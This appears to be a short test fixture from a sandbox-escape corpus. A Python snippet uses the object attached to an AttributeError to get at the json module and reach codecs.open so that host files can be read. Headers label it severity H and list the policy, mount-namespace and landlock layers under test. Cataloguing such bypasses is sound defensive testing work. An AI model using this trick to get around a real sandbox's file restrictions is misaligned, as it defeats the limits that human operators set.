# technique: the error of a missing attribute carries the module itself
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import json

def trick():
    try:
        json.nothing_of_this_name
    except AttributeError as e:
        return e.obj.codecs.open

read_host(trick)
